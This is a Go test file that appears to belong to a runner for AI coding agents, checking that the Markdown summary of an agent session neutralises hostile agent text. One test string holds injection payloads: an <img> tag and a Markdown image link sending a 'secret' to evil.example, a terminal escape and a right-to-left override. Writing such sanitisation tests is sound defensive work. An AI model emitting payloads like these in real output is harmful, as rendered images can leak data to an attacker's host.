package term

import (
	"strings"
	"testing"

	"github.com/sprawlto/ratchetai-runner/internal/event"
)

func TestSummaryGolden(t *testing.T) {
	t.Parallel()
	var s Summary
	for _, m := range story() {
		s.Add(m.data)
	}
	s.Add(event.PathViolation{Path: "sub/.envrc", What: "created", Reason: "direnv runs it"})
	golden(t, "summary.md", s.Markdown("20260102-150405-abcd"))
}

// The agent's text stays a quotation and code, and loads nothing.
func TestSummaryOfHostileText(t *testing.T) {
	t.Parallel()
	hostile := "a\x1b[2J\n### ✅ fake\n```\n<img src=http://evil.example>\n\\<b>![x](http://evil.example/?secret)\n- `x`` | y\u202e"
	var s Summary
	for _, d := range []event.Data{
		event.SessionStarted{Agent: "claude", Version: hostile},
		event.ToolStarted{Call: "t", Kind: event.KindOther, Name: hostile},
		event.ToolFinished{Call: "t"},
		event.ToolFinished{Call: "unknown"},
		event.FileChanged{Path: hostile},
		event.EgressDenied{Host: hostile},
		event.PathViolation{Path: hostile, What: "created"},
		event.SessionFinished{Outcome: event.Failed, Reason: hostile, Result: strings.Repeat("世", summaryResultMax)},
	} {
		s.Add(d)
	}
	page := s.Markdown("id")
	if !strings.HasPrefix(page, "### ❌ failed") || len(page) > summaryResultMax+4000 {
		t.Errorf("%d bytes: %.60q", len(page), page)
	}
	for i, line := range strings.Split(page, "\n") {
		switch {
		case strings.HasPrefix(line, "> "), line == "", i == 0:
		case !strings.HasPrefix(line, "- ") && !strings.HasSuffix(line, ":"):
			t.Errorf("line %d: %q", i, line)
		case strings.HasPrefix(line, "- ") && !strings.Contains(line, "`"):
			t.Errorf("line %d is no code: %q", i, line)
		}
		if strings.HasPrefix(line, "> ") && (strings.Contains(line, "<img") || strings.Contains(line, "![") || strings.Contains(line, "<b")) {
			t.Errorf("line %d: %q", i, line)
		}
	}
	if strings.ContainsAny(page, "\x1b\u202e") {
		t.Error("control characters are left")
	}
}
